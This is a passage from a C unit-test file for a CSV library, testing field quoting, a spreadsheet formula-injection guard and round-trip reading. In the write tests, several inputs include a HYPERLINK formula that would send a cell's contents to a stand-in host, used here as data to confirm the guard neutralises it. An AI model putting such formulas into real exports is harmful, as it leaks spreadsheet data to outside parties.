{
    char *buf = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&buf, &size);
    assert_non_null(out);
    pn_csv_write_field(out, s, delim);
    assert_int_equal(fclose(out), 0);
    return buf;
}

static void test_write_field(void **state)
{
    (void)state;
    static const struct {
        const char *in;
        char delim;
        const char *out;
    } cases[] = {
        {"plain", ',', "plain"},
        {"", ',', ""},
        {NULL, ',', ""},
        {"a,b", ',', "\"a,b\""},
        {"a;b", ',', "a;b"},
        {"a;b", ';', "\"a;b\""},
        {"a,b", ';', "a,b"},
        {"a\tb", '\t', "\"a\tb\""},
        {"say \"hi\"", ',', "\"say \"\"hi\"\"\""},
        {"\"", ',', "\"\"\"\""},
        {"two\nlines", ',', "\"two\nlines\""},
        {"cr\r", ';', "\"cr\r\""},
        {"\xC3\xA9t\xC3\xA9", ',', "\xC3\xA9t\xC3\xA9"},
        /* a text a spreadsheet would read as a formula gets a leading ', inside the quotes */
        {"=HYPERLINK(\"http://x?d=\"&A1;\"x\")", ',',
         "\"'=HYPERLINK(\"\"http://x?d=\"\"&A1;\"\"x\"\")\""},
        {"=HYPERLINK(\"http://x?d=\"&A1;\"x\")", ';',
         "\"'=HYPERLINK(\"\"http://x?d=\"\"&A1;\"\"x\"\")\""},
        {"+SUM(1,1)", ',', "\"'+SUM(1,1)\""},
        {"+SUM(1,1)", ';', "'+SUM(1,1)"},
        {"@SUM(1+1)", ',', "'@SUM(1+1)"},
        {"=1+1", ';', "'=1+1"},
        {"-2+3", ';', "'-2+3"},
        {"-", ',', "'-"},
        {"+", ',', "'+"},
        {"--x", ',', "'--x"},
        {"-inf", ',', "'-inf"},
        {"\tx", ',', "'\tx"},
        {"\rx", ';', "\"'\rx\""},
        {"a=b", ',', "a=b"},
        {" =1", ',', " =1"},
        /* numbers stay numbers */
        {"-3.5", ',', "-3.5"},
        {"+2", ',', "+2"},
        {"-1e5", ',', "-1e5"},
        {"-2.5E-3", ',', "-2.5E-3"},
        {"-.5", ',', "-.5"},
        {"-3,5", ';', "-3,5"},
        {"-3,5", ',', "\"-3,5\""},
        {"42", ',', "42"},
        {"-1e", ',', "'-1e"},
        {"-1.2.3", ',', "'-1.2.3"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char *got = write_field(cases[i].in, cases[i].delim);
        if (strcmp(got, cases[i].out) != 0) {
            char msg[256];
            snprintf(msg, sizeof msg, "case %zu: wrote [%s], expected [%s]", i, got, cases[i].out);
            free(got);
            fail_msg("%s", msg);
        }
        free(got);
    }
}

/* A raw record's field: quoted as pn_csv_write_field quotes, never guarded. */
static void test_append_field(void **state)
{
    (void)state;
    static const struct {
        const char *in;
        char delim;
        const char *out;
    } cases[] = {
        {"plain", ',', "plain"},
        {"", ',', ""},
        {"a,b", ',', "\"a,b\""},
        {"a;b", ',', "a;b"},
        {"a;b", ';', "\"a;b\""},
        {"say \"hi\"", ',', "\"say \"\"hi\"\"\""},
        {"two\nlines", ',', "\"two\nlines\""},
        {"cr\r", ';', "\"cr\r\""},
        /* the text as the file had it: no ' before a formula */
        {"=SUM(A1)", ',', "=SUM(A1)"},
        {"+SUM(1,1)", ',', "\"+SUM(1,1)\""},
        {"-", ';', "-"},
        {"@x;\"y\"", ';', "\"@x;\"\"y\"\"\""},
    };
    pn_strbuf sb = PN_STRBUF_INIT;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        pn_strbuf_reset(&sb);
        assert_int_equal(pn_csv_append_field(&sb, cases[i].in, cases[i].delim), PN_OK);
        if (strcmp(pn_strbuf_str(&sb), cases[i].out) != 0)
            fail_msg("case %zu: appended [%s], expected [%s]", i, pn_strbuf_str(&sb), cases[i].out);
        /* the one quoting rule: where no guard applies, both write the same */
        if (!pn_csv_is_formula(cases[i].in)) {
            char *w = write_field(cases[i].in, cases[i].delim);
            assert_string_equal(w, pn_strbuf_str(&sb));
            free(w);
        }
    }
    /* appended, not replaced */
    pn_strbuf_reset(&sb);
    assert_int_equal(pn_csv_append_field(&sb, "a", ','), PN_OK);
    assert_int_equal(pn_csv_append_field(&sb, "b,c", ','), PN_OK);
    assert_string_equal(pn_strbuf_str(&sb), "a\"b,c\"");
    pn_strbuf_release(&sb);
}

/* The formula test, and its inverse for a program reading back what it wrote. */
static void test_formula_guard(void **state)
{
    (void)state;
    assert_true(pn_csv_is_formula("=1"));
    assert_true(pn_csv_is_formula("@x"));
    assert_true(pn_csv_is_formula("-"));
    assert_true(pn_csv_is_formula("\r"));
    assert_false(pn_csv_is_formula("-3.5"));
    assert_false(pn_csv_is_formula("+2"));
    assert_false(pn_csv_is_formula(""));
    assert_false(pn_csv_is_formula(NULL));
    assert_false(pn_csv_is_formula("x=1"));
    assert_string_equal(pn_csv_unguard("'=1"), "=1");
    assert_string_equal(pn_csv_unguard("'@SUM(1+1)"), "@SUM(1+1)");
    assert_string_equal(pn_csv_unguard("'-2"), "'-2"); /* a number is never guarded */
    assert_string_equal(pn_csv_unguard("'abc"), "'abc");
    assert_string_equal(pn_csv_unguard("=1"), "=1");
    assert_null(pn_csv_unguard(NULL));
}

/* What is written reads back as the same fields. */
static void test_write_read_round_trip(void **state)
{
    (void)state;
    static const char *const fields[] = {"id", "a;b", "say \"hi\"", "", "x\ny", " sp"};
    const size_t n = sizeof fields / sizeof fields[0];
    char *buf = NULL;
    size_t size = 0;
    FILE *out = open_memstream(&buf, &size);
    assert_non_null(out);
    for (size_t i = 0; i < n; i++) {
        if (i)
            fputc(';', out);
        pn_csv_write_field(out, fields[i], ';');
    }
    fputc('\n', out);
    assert_int_equal(fclose(out), 0);

    dump d = {0};
    pn_error err = {0};
    pn_status st = read_mem(buf, size, ';', &d, NULL, &err);
    free(buf);
    assert_int_equal(st, PN_OK);
    /* " sp" is written bare, and the reader trims unquoted spaces */
    assert_string_equal(d.text, "[1] id|a;b|say \"hi\"||x\ny|sp\n");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_detect_comma),
        cmocka_unit_test(test_detect_semicolon),
        cmocka_unit_test(test_detect_tab),
        cmocka_unit_test(test_detect_ignores_quoted),
        cmocka_unit_test(test_detect_delim_function),
        cmocka_unit_test(test_given_delim_wins),
        cmocka_unit_test(test_utf8_bom_skipped),
        cmocka_unit_test(test_crlf),
        cmocka_unit_test(test_multiline_record_keeps_start_line),
        cmocka_unit_test(test_blank_lines_skipped),
        cmocka_unit_test(test_last_line_without_newline),
        cmocka_unit_test(test_empty_fields_kept),
        cmocka_unit_test(test_tab_empty_fields_kept),
        cmocka_unit_test(test_spaces_trimmed_outside_quotes),
        cmocka_unit_test(test_stray_quote),
        cmocka_unit_test(test_unterminated_quote),
        cmocka_unit_test(test_nul_byte),
        cmocka_unit_test(test_invalid_utf8),
        cmocka_unit_test(test_utf16_bom),
        cmocka_unit_test(test_utf8_info),
        cmocka_unit_test(test_windows1252),
        cmocka_unit_test(test_utf16le_excel),
        cmocka_unit_test(test_utf16be),
        cmocka_unit_test(test_cr_line_endings),
        cmocka_unit_test(test_forced_encoding),
        cmocka_unit_test(test_unknown_encoding),
        cmocka_unit_test(test_encoding_errors),
        cmocka_unit_test(test_workbook),
        cmocka_unit_test(test_nul_decoded),
        cmocka_unit_test(test_progress),
        cmocka_unit_test(test_info_before_first_record),
        cmocka_unit_test(test_empty_file),
        cmocka_unit_test(test_callback_error_stops),
        cmocka_unit_test(test_callback_stop_is_no_error),
        cmocka_unit_test(test_read_path),
        cmocka_unit_test(test_read_path_missing),
        cmocka_unit_test(test_utf8_valid),
        cmocka_unit_test(test_write_field),
        cmocka_unit_test(test_append_field),
        cmocka_unit_test(test_write_read_round_trip),
        cmocka_unit_test(test_formula_guard),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
